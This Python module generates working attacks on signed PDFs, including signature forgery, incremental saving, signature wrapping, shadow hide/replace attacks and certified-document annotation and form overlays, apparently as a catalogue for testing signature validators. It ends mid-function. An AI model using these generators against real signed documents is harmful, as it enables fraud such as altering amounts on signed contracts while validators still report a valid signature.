"""Attacks on signed PDFs, class by class, as published and as anybody could vary them.

Mladenov et al., 1 Trillion Dollar Refund (2019): forgery, incremental saving, wrapping. Mainka et al., Shadow Attacks
(2021): hide, replace, hide and replace. Mainka et al., Breaking the Specification (2021): certified documents.
Each attack says under which kind of signature it is made, how the paper was made ready, and what is done afterwards.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name
from signing_papers import gap
from signing_producers import A4, look, text_field
from signing_updates import Style, Update, appended, changed_objects, last_start, updated, updated_as, uses_stream

Prepare = Callable[[pikepdf.Pdf], None]
Forge = Callable[[bytes], bytes]


@dataclass(frozen=True)
class Attack:
    """``level``: of the certification under which it is made, None for an ordinary signature."""

    family: str
    name: str
    forge: Forge
    prepare: Prepare | None = None
    level: int | None = None

    def __str__(self) -> str:
        return f"{self.family}/{self.name}"


@dataclass(frozen=True)
class Appended:
    """An attack that appends a flawless revision, in the file's own style or another."""

    function: Callable[[Update], None]

    def __call__(self, signed: bytes) -> bytes:
        return updated(signed, self.function)

    def written_as(self, style: Style, signed: bytes) -> bytes:
        return updated_as(style, signed, self.function)


def change(function: Callable[[Update], None]) -> Appended:
    """An attack that appends a flawless revision."""
    return Appended(function)


EVIL = b"q 1 1 1 rg 40 560 500 120 re f 0 g BT /Helv 20 Tf 60 600 Td (9.999.999 dong) Tj ET Q"
COVER = (40.0, 560.0, 540.0, 690.0)


def evil_resources(update: Update) -> pikepdf.Object:
    """A font for evil text."""
    font = update.pdf.Root.AcroForm.DR.Font.Helv
    return Dictionary(Font=Dictionary(Helv=font))


def evil_look(update: Update, data: bytes = EVIL) -> pikepdf.Object:
    """An appearance that hides the text and writes another."""
    moved = b"1 0 0 1 -40 -560 cm " + data
    return update.form(moved, (0, 0, COVER[2] - COVER[0], COVER[3] - COVER[1]), Resources=evil_resources(update))


# --- Universal signature forgery: the signature dictionary is made unreadable, the page is another. ----------------


def _forged(spoil: Callable[[Update, pikepdf.Object], None]) -> Forge:
    def both(update: Update) -> None:
        value = update.signature().V
        spoil(update, value)
        if value.is_indirect:
            update.touch(value)
        replace_page(update)

    return change(both)


def replace_page(update: Update) -> None:
    """The first page shows something else."""
    update.page.Contents = update.stream(EVIL)
    update.page.Resources = evil_resources(update)
    update.touch(update.page)


def _set(key: str, value: object) -> Callable[[Update, pikepdf.Object], None]:
    def spoil(update: Update, signature: pikepdf.Object) -> None:
        if value is None:
            del signature[key]
        else:
            signature[key] = value

    return spoil


def _valueless(update: Update, signature: pikepdf.Object) -> None:
    field = update.signature()
    del field["/V"]
    update.touch(field)


def _empty(update: Update, signature: pikepdf.Object) -> None:
    for key in list(signature.keys()):
        del signature[key]


FORGERY = [
    Attack("forgery", name, _forged(spoil))
    for name, spoil in {
        "no range": _set("/ByteRange", None),
        "empty range": _set("/ByteRange", Array([])),
        "zero range": _set("/ByteRange", Array([0, 0, 0, 0])),
        "negative range": _set("/ByteRange", Array([0, -1, -1, -1])),
        "endless range": _set("/ByteRange", Array([0, 10, 20, 10**12])),
        "range in text": _set("/ByteRange", pikepdf.String("0 1 2 3")),
        "no contents": _set("/Contents", None),
        "empty contents": _set("/Contents", pikepdf.String(b"")),
        "one zero": _set("/Contents", pikepdf.String(b"\0")),
        "all zero": _set("/Contents", pikepdf.String(bytes(16000))),
        "no kind": _set("/SubFilter", None),
        "another kind": _set("/SubFilter", Name("/adbe.x509.rsa_sha1")),
        "no value": _valueless,
        "empty value": _empty,
    }.items()
]


# --- Incremental saving: another page, with more or less of a revision around it. ----------------------------------


def _saved(**how: object) -> Forge:
    def forge(signed: bytes) -> bytes:
        start = how.get("start")
        bodies, _, trailer = changed_objects(signed, replace_page)
        return appended(
            signed,
            bodies,
            trailer=trailer,
            table=bool(how.get("table", True)),
            with_trailer=bool(how.get("with_trailer", True)),
            start=last_start(signed) if start == "old" else start,  # type: ignore[arg-type]
        )

    return forge


def _with_copy_of_signature(signed: bytes) -> bytes:
    def both(update: Update) -> None:
        replace_page(update)
        update.touch(update.signature().V)

    return updated(signed, both)


def _bodies_only(signed: bytes) -> bytes:
    bodies, _, _ = changed_objects(signed, replace_page)
    return signed + b"".join(b"\n%d 0 obj\n" % number + body + b"\nendobj\n" for number, body in bodies.items())


def _twice(signed: bytes) -> bytes:
    first = updated(signed, replace_page)
    return updated(first, lambda update: update.touch(update.pdf.Root))


def _another_page(update: Update) -> None:
    page = update.add(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, *A4]), Resources=evil_resources(update)))
    page.Contents = update.stream(EVIL)
    pages = update.pdf.Root.Pages
    page.Parent = pages
    pages.Kids.append(page)
    pages.Count = int(pages.Count) + 1
    update.touch(pages)


def _fewer_pages(update: Update) -> None:
    pages = update.pdf.Root.Pages
    pages.Kids = Array(list(pages.Kids)[:-1])
    pages.Count = int(pages.Count) - 1
    update.touch(pages)


def _turned(update: Update) -> None:
    update.page.Rotate = 180
    update.touch(update.page)


def _cut(update: Update) -> None:
    update.page.CropBox = Array([0, 0, 595, 400])
    update.touch(update.page)


def _more_contents(update: Update) -> None:
    old = update.page.Contents
    before = list(old) if isinstance(old, Array) else [old]
    update.page.Contents = Array([*before, update.stream(b"1 1 1 rg 0 0 595 842 re f")])
    update.touch(update.page)


def _script(update: Update) -> None:
    update.pdf.Root.OpenAction = update.add(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    update.touch(update.pdf.Root)


def _title(update: Update) -> None:
    update.trailer["/Info"] = update.add(Dictionary(Title="Quyet dinh khac"))


SAVING = [
    Attack("saving", "a flawless revision", change(replace_page)),
    Attack("saving", "no cross-references", _saved(table=False)),
    Attack("saving", "no trailer", _saved(with_trailer=False)),
    Attack("saving", "neither", _saved(table=False, with_trailer=False)),
    Attack("saving", "the old start", _saved(start="old")),
    Attack("saving", "bodies only", _bodies_only),
    Attack("saving", "a start that is nowhere", _saved(start=99)),
    Attack("saving", "a copy of the signature", _with_copy_of_signature),
    Attack("saving", "twice", _twice),
    Attack("saving", "another page", change(_another_page)),
    Attack("saving", "fewer pages", change(_fewer_pages)),
    Attack("saving", "turned", change(_turned)),
    Attack("saving", "cut", change(_cut)),
    Attack("saving", "more contents", change(_more_contents)),
    Attack("saving", "a script", change(_script)),
    Attack("saving", "a title", change(_title)),
    Attack("saving", "a title, certified", change(_title), level=1),
]


# --- Wrapping: the signed end is moved behind what is put in. ------------------------------------------------------


def _wrapped(payload: Callable[[Update], None], *, filler: bytes = b" ") -> Forge:
    """New objects and cross-references between the signature and the end that was signed with it.

    The signed end says where the cross-references are: that place now lies in what is put in.
    """

    def forge(signed: bytes) -> bytes:
        first, second = gap(signed)
        start = last_start(signed)

        def both(update: Update) -> None:
            payload(update)
            value = update.signature().V
            value["/ByteRange"] = Array([0, first, 10**9, len(signed) - second])
            update.touch(value)

        bodies, _, trailer = changed_objects(signed, both)
        inside = bytearray(b"\n")
        offsets = {}
        if second + sum(len(each) + 40 for each in bodies.values()) > start:
            return _plainly(signed, bodies, (first, second))
        for number, body in bodies.items():
            offsets[number] = second + len(inside)
            inside += b"%d 0 obj\n" % number + body + b"\nendobj\n"
        inside += b"".ljust(start - second - len(inside), filler)
        return _ended(signed, bytes(inside), offsets, (first, second), trailer)

    return forge


def _plainly(signed: bytes, bodies: dict[int, bytes], hole: tuple[int, int]) -> bytes:
    """The simple form: the objects stand in the gap, the cross-references behind the end."""
    first, second = hole
    inside = b"".join(b"\n%d 0 obj\n" % number + body + b"\nendobj\n" for number, body in bodies.items())
    moved = signed[:second] + inside + signed[second:]
    return re.sub(
        rb"/ByteRange\s*\[\s*0 %d 1000000000 " % first,
        b"/ByteRange [0 %d %010d " % (first, second + len(inside)),
        moved,
    )


def _ended(
    signed: bytes, inside: bytes, offsets: dict[int, int], hole: tuple[int, int], trailer: dict[str, bytes]
) -> bytes:
    second = hole[1]
    with pikepdf.open(BytesIO(signed)) as pdf:
        root, size = pdf.trailer.Root.unparse(), int(pdf.trailer.Size)
    table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (number, at) for number, at in sorted(offsets.items()))
    table += b"trailer\n<< /Root %s /Size %d /Prev %d >>\n" % (root, size + 9, _old_start(signed, second))
    whole = inside + table
    # Once the length is known, the range in the new dictionary is written at its width.
    whole = whole.replace(b"1000000000 ", b"%010d " % (second + len(whole)))
    return signed[:second] + whole + signed[second:]


def _old_start(signed: bytes, before: int) -> int:
    return int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", signed[:before])[-1])


WRAPPING = [
    Attack("wrapping", "a page", _wrapped(replace_page)),
    Attack("wrapping", "a page, zeros around it", _wrapped(replace_page, filler=b"\0")),
    Attack("wrapping", "a page, digits around it", _wrapped(replace_page, filler=b"0")),
    Attack("wrapping", "another page", _wrapped(_another_page)),
    Attack("wrapping", "turned", _wrapped(_turned)),
    Attack("wrapping", "cut", _wrapped(_cut)),
    Attack("wrapping", "more contents", _wrapped(_more_contents)),
    Attack("wrapping", "a script", _wrapped(_script)),
    Attack("wrapping", "fewer pages", _wrapped(_fewer_pages)),
]


# --- Shadows: the paper was made ready before it was signed. -------------------------------------------------------


def _with_curtain(pdf: pikepdf.Pdf) -> None:
    """A white picture over the text: who signs sees an empty page."""
    page = pdf.pages[0].obj
    curtain = pdf.make_stream(b"1 1 1 rg 40 560 500 120 re f")
    curtain.Type, curtain.Subtype, curtain.BBox = Name.XObject, Name.Form, Array([0, 0, *A4])
    resources = _own_resources(pdf)
    resources["/XObject"] = Dictionary(**{**dict(_items(resources.get("/XObject"))), "Curtain": curtain})
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name="man"))
    curtain.OC = layer
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(ON=Array([layer]), OFF=Array([])))
    resources["/ExtGState"] = Dictionary(Full=pdf.make_indirect(Dictionary(ca=1)))
    old = page.Contents
    before = list(old) if isinstance(old, Array) else [old]
    page.Contents = Array([pdf.make_stream(b"q "), *before, pdf.make_stream(b" Q q /Full gs /Curtain Do Q")])


def _items(value: pikepdf.Object | None) -> list[tuple[str, pikepdf.Object]]:
    return [(key.removeprefix("/"), each) for key, each in value.items()] if value is not None else []


def _own_resources(pdf: pikepdf.Pdf) -> pikepdf.Object:
    page = pdf.pages[0].obj
    inherited = page.get("/Resources") or pdf.Root.Pages.get("/Resources") or Dictionary()
    page.Resources = Dictionary(**dict(_items(inherited)))
    return page.Resources


def _curtain(update: Update) -> pikepdf.Object:
    return update.page.Resources.XObject.Curtain


def _undrawn(update: Update) -> None:
    _curtain(update).write(b" ")
    update.touch(_curtain(update))


def _freed(update: Update) -> None:
    update.freed.append(_curtain(update).objgen[0])
    update.touch(update.pdf.Root)


def _narrow(update: Update) -> None:
    _curtain(update).BBox = Array([0, 0, 1, 1])
    update.touch(_curtain(update))


def _switched_off(update: Update) -> None:
    properties = update.pdf.Root.OCProperties
    properties.D.OFF, properties.D.ON = properties.OCGs, Array([])
    update.touch(update.pdf.Root)


def _unnamed(update: Update) -> None:
    del update.page.Resources.XObject["/Curtain"]
    update.touch(update.page, update.page.Resources)


def _transparent(update: Update) -> None:
    state = update.page.Resources.ExtGState.Full
    state.ca = 0
    update.touch(state)


def _moved_away(update: Update) -> None:
    _curtain(update).Matrix = Array([1, 0, 0, 1, 5000, 5000])
    update.touch(_curtain(update))


def _last_contents_gone(update: Update) -> None:
    update.page.Contents = Array(list(update.page.Contents)[:-1])
    update.touch(update.page)


def _another_subtype(update: Update) -> None:
    _curtain(update).Subtype = Name.PS
    update.touch(_curtain(update))


HIDE = [
    Attack("hide", name, change(function), prepare=_with_curtain)
    for name, function in {
        "curtain emptied": _undrawn,
        "curtain freed": _freed,
        "curtain narrowed": _narrow,
        "curtain's layer off": _switched_off,
        "curtain not named": _unnamed,
        "curtain transparent": _transparent,
        "curtain moved": _moved_away,
        "curtain's contents gone": _last_contents_gone,
        "curtain of another kind": _another_subtype,
    }.items()
]


def _with_things(pdf: pikepdf.Pdf) -> None:
    """A font, a picture, a pattern and a form that the page shows."""
    page = pdf.pages[0].obj
    resources = _own_resources(pdf)
    font = Dictionary(
        Type=Name.Font,
        Subtype=Name.Type1,
        BaseFont=Name.Courier,
        FirstChar=48,
        LastChar=57,
        Widths=Array([600] * 10),
        Encoding=pdf.make_indirect(Dictionary(Type=Name.Encoding, BaseEncoding=Name.WinAnsiEncoding)),
    )
    resources["/Font"] = Dictionary(**{**dict(_items(resources.get("/Font"))), "Sum": pdf.make_indirect(font)})
    picture = pdf.make_stream(bytes(range(0, 256, 4)))
    picture.Type, picture.Subtype, picture.Width, picture.Height = Name.XObject, Name.Image, 8, 8
    picture.ColorSpace, picture.BitsPerComponent = Name.DeviceGray, 8
    stamp = pdf.make_stream(b"0 g 0 0 20 20 re f")
    stamp.Type, stamp.Subtype, stamp.BBox = Name.XObject, Name.Form, Array([0, 0, 30, 30])
    resources["/XObject"] = Dictionary(
        **{
            **dict(_items(resources.get("/XObject"))),
            "Seal": pdf.make_indirect(picture),
            "Stamp": pdf.make_indirect(stamp),
        }
    )
    old = page.Contents
    before = list(old) if isinstance(old, Array) else [old]
    more = b" Q BT /Sum 20 Tf 60 450 Td (12345) Tj ET q 80 0 0 80 60 300 cm /Seal Do Q /Stamp Do"
    page.Contents = Array([pdf.make_stream(b"q "), *before, pdf.make_stream(more)])


def _of_things(kind: str, name: str) -> Callable[[Update], pikepdf.Object]:
    return lambda update: update.page.Resources[kind][name]


def _other_digits(update: Update) -> None:
    encoding = update.page.Resources.Font.Sum.Encoding
    encoding.Differences = Array([49, Name.nine, Name.eight])
    update.touch(encoding)


def _other_font(update: Update) -> None:
    font = update.page.Resources.Font.Sum
    font.BaseFont = Name.Symbol
    update.touch(font)


def _other_widths(update: Update) -> None:
    font = update.page.Resources.Font.Sum
    font.Widths = Array([0] * 10)
    update.touch(font)


def _drawn_font(update: Update) -> None:
    font = update.page.Resources.Font.Sum
    for key in ("/BaseFont", "/Widths"):
        del font[key]
    glyph = update.stream(b"600 0 d0 0 0 500 700 re f")
    font.Subtype, font.FontBBox, font.FontMatrix = (
        Name.Type3,
        Array([0, 0, 600, 700]),
        Array([0.001, 0, 0, 0.001, 0, 0]),
    )
    font.CharProcs, font.Widths = Dictionary(nine=glyph), Array([600] * 10)
    font.Encoding = Dictionary(Differences=Array([49, Name.nine]))
    update.touch(font)


def _other_picture(update: Update) -> None:
    picture = update.page.Resources.XObject.Seal
    picture.write(bytes(64))
    update.touch(picture)


def _turned_picture(update: Update) -> None:
    picture = update.page.Resources.XObject.Seal
    picture.Decode = Array([1, 0])
    update.touch(picture)


def _masked_picture(update: Update) -> None:
    picture = update.page.Resources.XObject.Seal
    mask = update.stream(
        bytes(64),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=8,
        Height=8,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
    )
    picture.SMask = mask
    update.touch(picture)


def _other_stamp(update: Update) -> None:
    stamp = update.page.Resources.XObject.Stamp
    stamp.write(b"1 g 0 0 600 800 re f")
    stamp.BBox = Array([0, 0, *A4])
    update.touch(stamp)


def _value_replaced(update: Update) -> None:
    """The field said 500 when it was signed."""
    field = update.named("filled")
    field.V = "999"
    field.AP = Dictionary(N=evil_field_look(update, "999"))
    update.touch(field)


def evil_field_look(update: Update, text: str, more: bytes = b"") -> pikepdf.Object:
    made = look(update.pdf, text, (0, 0, 450, 80), update.pdf.Root.AcroForm.DR.Font.Helv, more)
    return update.add(made)


def _look_replaced(update: Update) -> None:
    field = update.named("filled")
    field.AP = Dictionary(N=evil_field_look(update, "999"))
    update.touch(field)


def _sized(update: Update) -> None:
    update.page.MediaBox = Array([0, 300, 595, 842])
    update.touch(update.page)


REPLACE = [
    Attack("replace", name, change(function), prepare=_with_things)
    for name, function in {
        "digits": _other_digits,
        "font": _other_font,
        "widths": _other_widths,
        "drawn font": _drawn_font,
        "picture": _other_picture,
        "picture turned": _turned_picture,
        "picture masked": _masked_picture,
        "stamp": _other_stamp,
        "value": _value_replaced,
        "look": _look_replaced,
        "size": _sized,
    }.items()
]


def _with_second(pdf: pikepdf.Pdf) -> None:
    """All of another document lies in the file, shown by nothing: a page, its tree, its catalogue."""
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page = pdf.make_indirect(
        Dictionary(
            Type=Name.Page,
            MediaBox=Array([0, 0, *A4]),
            Contents=pdf.make_stream(EVIL),
            Resources=Dictionary(Font=Dictionary(Helv=font)),
        )
    )
    tree = pdf.make_indirect(Dictionary(Type=Name.Pages, Kids=Array([page]), Count=1))
    page.Parent = tree
    catalogue = pdf.make_indirect(Dictionary(Type=Name.Catalog, Pages=tree))
    # Something has to name it, or it would not be saved.
    pdf.Root.PieceInfo = Dictionary(Hidden=Dictionary(Private=Array([page, tree, catalogue])))


def _second(update: Update, which: int) -> pikepdf.Object:
    return update.pdf.Root.PieceInfo.Hidden.Private[which]


def _other_catalogue(update: Update) -> None:
    other = _second(update, 2)
    other.AcroForm = update.pdf.Root.AcroForm
    update.touch(other)
    update.trailer["/Root"] = other


def _bare_catalogue(update: Update) -> None:
    update.trailer["/Root"] = _second(update, 2)
    update.touch(_second(update, 2))


def _other_tree(update: Update) -> None:
    update.pdf.Root.Pages = _second(update, 1)
    update.touch(update.pdf.Root)


def _other_kid(update: Update) -> None:
    pages = update.pdf.Root.Pages
    pages.Kids = Array([_second(update, 0), *list(pages.Kids)[1:]])
    update.touch(pages)


def _other_contents(update: Update) -> None:
    page = _second(update, 0)
    update.page.Contents, update.page.Resources = page.Contents, page.Resources
    update.touch(update.page)


def _contents_under_old_number(signed: bytes) -> bytes:
    def forge(update: Update) -> None:
        contents = update.page.Contents
        first = contents[0] if isinstance(contents, Array) else contents
        first.write(EVIL)
        update.touch(first)

    return updated(signed, forge)


def _pages_swapped(update: Update) -> None:
    kids = list(update.pdf.Root.Pages.Kids)
    update.pdf.Root.Pages.Kids = Array([*kids[1:], kids[0]])
    update.touch(update.pdf.Root.Pages)


def _tree_under_old_number(signed: bytes) -> bytes:
    bodies, _, _ = changed_objects(signed, lambda update: update.touch(update.pdf.Root.Pages))
    (number,) = bodies
    other, _, _ = changed_objects(signed, lambda update: update.touch(_second(update, 1)))
    return appended(signed, {number: next(iter(other.values()))})


def _references_only(signed: bytes) -> bytes:
    """No new object at all: the cross-references send the page tree's number to the other tree's place."""
    with pikepdf.open(BytesIO(signed)) as pdf:
        number = pdf.Root.Pages.objgen[0]
        other = pdf.Root.PieceInfo.Hidden.Private[1].objgen[0]
        root, size = pdf.trailer.Root.unparse(), int(pdf.trailer.Size)
    place = re.search(rb"(?<![0-9])%d 0 obj" % other, signed)
    if place is None:  # in an object stream: there is no place to send anybody to
        return _tree_under_old_number(signed)
    table = b"xref\n%d 1\n%010d 00000 n \n" % (number, place.start())
    trailer = b"trailer\n<< /Root %s /Size %d /Prev %d >>\n" % (root, size, last_start(signed))
    start = len(signed) + (0 if signed.endswith(b"\n") else 1)
    return signed + b"\n"[: start - len(signed)] + table + trailer + b"startxref\n%d\n%%%%EOF\n" % start


HIDE_AND_REPLACE = [
    Attack("hide and replace", name, forge, prepare=_with_second)
    for name, forge in {
        "catalogue": change(_other_catalogue),
        "catalogue without form": change(_bare_catalogue),
        "page tree": change(_other_tree),
        "page": change(_other_kid),
        "contents": change(_other_contents),
        "contents under the old number": _contents_under_old_number,
        "pages in another order": change(_pages_swapped),
        "tree under the old number": _tree_under_old_number,
        "references only": _references_only,
    }.items()
]


# --- Certified documents: annotations (P=3) and signatures (P=2) that say more than they may. -----------------------


def _annotated(subtype: str, **entries: object) -> Callable[[Update], None]:
    """An annotation over the text, with a look that hides it unless ``bare``."""
    bare = bool(entries.pop("bare", False))

    def put(update: Update) -> None:
        made = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array(list(COVER)), F=4)
        for key, value in entries.items():
            made[f"/{key}"] = value
        if not bare:
            made.AP = Dictionary(N=evil_look(update))
        _on_page(update, update.add(made))

    return put


def _on_page(update: Update, annotation: pikepdf.Object) -> None:
    there = update.page.get("/Annots")
    update.page.Annots = Array([*(list(there) if there is not None else []), annotation])
    update.touch(update.page)


EVIL_ANNOTATION = [
    Attack("evil annotation", name, change(function), level=3)
    for name, function in {
        "free text": _annotated("/FreeText", Contents="9.999.999", DA="/Helv 12 Tf 0 g"),
        "free text, bare": _annotated("/FreeText", Contents="9.999.999", DA="/Helv 12 Tf 0 g", bare=True),
        "stamp": _annotated("/Stamp", Name=Name.Approved),
        "redaction": _annotated("/Redact", OverlayText="9.999.999"),
        "square": _annotated("/Square", IC=Array([1, 1, 1]), bare=True),
        "circle": _annotated("/Circle", IC=Array([1, 1, 1])),
        "line": _annotated("/Line", L=Array([50, 600, 500, 600])),
        "polygon": _annotated("/Polygon", Vertices=Array([50, 600, 500, 600, 300, 700])),
        "ink": _annotated("/Ink", InkList=Array([Array([50, 600, 500, 600])])),
        "highlight that writes": _annotated("/Highlight", QuadPoints=Array([40, 690, 540, 690, 40, 560, 540, 560])),
        "note that writes": _annotated("/Text", Contents="x"),
        "watermark": _annotated("/Watermark"),
        "attachment": _annotated("/FileAttachment"),
        "link": _annotated("/Link", A=Dictionary(S=Name.URI, URI="http://example.invalid/"), bare=True),
        "text field": _annotated("/Widget", FT=Name.Tx, T="evil", V="9.999.999"),
    }.items()
]


def _field_put(update: Update, field: pikepdf.Object, *, shown: bool = True) -> None:
    update.fields.append(field)
    form = update.pdf.Root.AcroForm
    update.touch(form if form.is_indirect else update.pdf.Root)
    if update.fields.is_indirect:
        update.touch(update.fields)
    if shown:
        _on_page(update, field)


def _sneaky(value: Callable[[Update], pikepdf.Object | None], **entries: object) -> Callable[[Update], None]:
    def put(update: Update) -> None:
        field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T="Sneaky", F=4, Rect=Array(list(COVER)))
        for key, each in entries.items():
            field[f"/{key}"] = each
        field.AP = Dictionary(N=evil_look(update))
        signature = value(update)
        if signature is not None:
            field.V = signature
        _field_put(update, update.add(field))

    return put


def _no_value(update: Update) -> None:
    return None


def _rubbish(update: Update) -> pikepdf.Object:
    return update.add(
        Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            SubFilter=Name("/ETSI.CAdES.detached"),
            ByteRange=Array([0, 10, 20, 30]),
            Contents=pikepdf.String(b"rubbish"),
        )
    )


def _bare_value(update: Update) -> pikepdf.Object:
    return update.add(Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite")))


def _old_value(update: Update) -> pikepdf.Object:
    return update.signature().V


def _copied_value(update: Update) -> pikepdf.Object:
    return update.add(Dictionary(**dict(_items(update.signature().V))))


def _stamp_value(update: Update) -> pikepdf.Object:
    return update.add(
        Dictionary(Type=Name.DocTimeStamp, SubFilter=Name("/ETSI.RFC3161"), Contents=pikepdf.String(b"0"))
    )


def _unknown_value(update: Update) -> pikepdf.Object:
    return update.add(
        Dictionary(Type=Name.Sig, SubFilter=Name("/x.y"), ByteRange=Array([0, 1, 2, 3]), Contents=pikepdf.String(b"0"))
    )


def _text_of(update: Update) -> pikepdf.Object:
    return pikepdf.String("signed")


def _background(update: Update) -> None:
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T="Sneaky", F=4, Rect=Array(list(COVER)))
    field.MK = Dictionary(BG=Array([1, 1, 1]), CA="9.999.999")
    _field_put(update, update.add(field))


def _kid_widget(update: Update) -> None:
    widget = update.add(Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=Array(list(COVER)), F=4))
    widget.AP = Dictionary(N=evil_look(update))
    field = update.add(Dictionary(FT=Name.Sig, T="Sneaky", Kids=Array([widget])))
    widget.Parent = field
    _field_put(update, field, shown=False)
    _on_page(update, widget)


def _old_mark(update: Update) -> None:
    field = update.signature()
    field.Rect = Array(list(COVER))
    field.AP = Dictionary(N=evil_look(update))
    update.touch(field)


SNEAKY_SIGNATURE = [
    Attack("sneaky signature", name, change(function), level=2)
    for name, function in {
        "no value": _sneaky(_no_value),
        "rubbish": _sneaky(_rubbish),
        "a bare value": _sneaky(_bare_value),
        "the old value": _sneaky(_old_value),
        "a copy of the value": _sneaky(_copied_value),
        "no value, locked": _sneaky(_no_value, Ff=1),
        "a time stamp": _sneaky(_stamp_value),
        "an unknown kind": _sneaky(_unknown_value),
        "a text": _sneaky(_text_of),
        "a background": _background,
        "a widget below": _kid_widget,
        "the old mark": _old_mark,
    }.items()
]


# --- Annotations that lie over others, or over the text, under an ordinary signature or P=3. -------------------------


def _opaque(update: Update) -> pikepdf.Object:
    moved = b"1 1 1 rg 0 0 500 130 re f"
    return update.form(moved, (0, 0, COVER[2] - COVER[0], COVER[3] - COVER[1]), Resources=Dictionary())


def _covering(subtype: str) -> Callable[[Update], None]:
    def put(update: Update) -> None:
        box = Array(list(COVER))
        made = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=box, F=4, AP=Dictionary(N=_opaque(update)))
        if subtype in {"/Highlight", "/Underline", "/StrikeOut", "/Squiggly"}:
            made.QuadPoints = Array([40, 690, 540, 690, 40, 560, 540, 560])
        _on_page(update, update.add(made))

    return put


def _over_field(update: Update) -> None:
    made = Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([60, 140, 260, 160]), F=4)
    made.AP = Dictionary(N=update.form(b"1 1 1 rg 0 0 200 20 re f", (0, 0, 200, 20), Resources=Dictionary()))
    _on_page(update, update.add(made))


OVERLAP = [
    Attack("overlap", f"{subtype}, level {level}", change(_covering(subtype)), level=level)
    for subtype in ("/Text", "/Highlight", "/Underline", "/StrikeOut", "/Squiggly", "/Caret", "/Popup")
    for level in (3, None)
] + [
    Attack("overlap", "over a field", change(_over_field), level=3),
    Attack("overlap", "a square", change(_covering("/Square")), level=3),
]


# --- Forms that show something else than they say, under P=2. -------------------------------------------------------


def _filled(name: str, value: str, text: str, more: bytes = b"", **entries: object) -> Callable[[Update], None]:
    def fill(update: Update) -> None:
        field = update.named(name)
        field.V = value
        field.AP = Dictionary(N=evil_field_look(update, text, more))
        for key, each in entries.items():
            field[f"/{key}"] = each
        update.touch(field)

    return fill


def _look_only(update: Update) -> None:
    field = update.named("blank")
    field.AP = Dictionary(N=evil_field_look(update, "9.999.999"))
    update.touch(field)


def _other_tick(update: Update) -> None:
    field = update.named("tick")
    field.V, field.AS = Name.Yes, Name.Yes
    field.AP.N.Yes.write(b"1 1 1 rg 0 0 600 600 re f")
    update.touch(field, field.AP.N.Yes)


def _new_field(update: Update) -> None:
    font = update.pdf.Root.AcroForm.DR.Font.Helv
    field = text_field(update.pdf, "evil", COVER, "9.999.999", font)
    update.touch(field)
    update.add(field.AP.N)
    _field_put(update, field)


def _hidden_field(update: Update) -> None:
    field = update.named("filled")
    field.F = 2
    update.touch(field)


def _drawn_anew(update: Update) -> None:
    form = update.pdf.Root.AcroForm
    form.NeedAppearances = True
    form.DR.Font.Helv.Encoding = Dictionary(Differences=Array([53, Name.nine]))
    update.touch(form, form.DR.Font.Helv)


WHITE = b"1 1 1 rg 0 0 450 80 re f 0 g "
FORM_OVERLAY = [
    Attack("form overlay", name, change(function), level=2)
    for name, function in {
        "look only": _look_only,
        "another text than the value": _filled("blank", "100", "9.999.999"),
        "the page hidden": _filled("wide", "x", "x", WHITE),
        "the page hidden, another text": _filled("wide", "x", "9.999.999", WHITE),
        "moved": _filled("blank", "x", "x", Rect=Array(list(COVER))),
        "a background": _filled("wide", "x", "x", MK=Dictionary(BG=Array([1, 1, 1]))),
        "another tick": _other_tick,
        "a new field": _new_field,
        "a field hidden": _hidden_field,
        "drawn anew": _drawn_anew,
        "the look of a filled field": _look_replaced,
        "a value without its look": _filled("filled", "999", "500"),
    }.items()
]

# --- Objects that are two things at once: judged as one, they must not change as the other. --------------------------


def _posing(pdf: pikepdf.Pdf) -> None:
    """What the page needs is also a note, a node of the page tree, a field; a field lies ready that no page shows."""
    page = pdf.pages[0].obj
    resources = _own_resources(pdf)
    note = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([500, 700, 520, 720]), Contents="x", ca=1)
    )
    stamp = pdf.make_stream(b"0 g 0 0 20 20 re f")
    stamp.Type, stamp.Subtype, stamp.BBox = Name.XObject, Name.Form, Array([0, 0, 30, 30])
    stamp = pdf.make_indirect(stamp)
    tree = pdf.Root.Pages
    tree.ca = 1
    box = pdf.make_indirect(Dictionary(FT=Name.Tx, T="state", ca=1, V="x"))
    font = pdf.Root.AcroForm.DR.Font.Helv
    ready = text_field(pdf, "ready", COVER, "9.999.999", font)
    bare = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="bare", V="5", F=4, DA="/Odd 10 Tf 0 g",
            Rect=Array([300, 140, 400, 160]),
        )
    )  # fmt: skip
    pdf.Root.AcroForm.Fields.extend([box, ready, bare])
    page.Annots = Array([*list(page.Annots), note, stamp, bare])
    resources["/ExtGState"] = Dictionary(Note=note, Tree=tree, Box=box)
    resources["/XObject"] = Dictionary(**{**dict(_items(resources.get("/XObject"))), "Stamp": stamp})
    old = page.Contents
    before = list(old) if isinstance(old, Array) else [old]
    shown = b" Q /Note gs /Tree gs /Box gs q 1 0 0 1 300 300 cm /Stamp Do Q /L#61ter Do"
    page.Contents = Array([pdf.make_stream(b"q "), *before, pdf.make_stream(shown)])


def _posing_as(which: str) -> Callable[[Update], None]:
    def fade(update: Update) -> None:
        state = update.page.Resources.ExtGState[f"/{which}"]
        state.ca = 0
        update.touch(state)

    return fade


def _stamp_posing(update: Update) -> None:
